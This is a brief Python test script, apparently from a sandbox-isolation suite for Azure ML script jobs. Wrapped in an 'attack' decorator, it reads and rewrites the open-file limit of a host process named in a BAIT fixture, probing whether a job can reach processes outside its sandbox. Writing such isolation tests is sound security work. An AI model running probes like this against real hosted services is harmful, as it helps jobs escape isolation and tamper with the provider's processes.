"""Sets the limits of the process that ordered the job."""

import resource

from attack import BAIT, attack


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    before = resource.prlimit(BAIT["host_pid"], resource.RLIMIT_NOFILE)
    resource.prlimit(BAIT["host_pid"], resource.RLIMIT_NOFILE, before)
    return f"set the parent's limit to {before}"
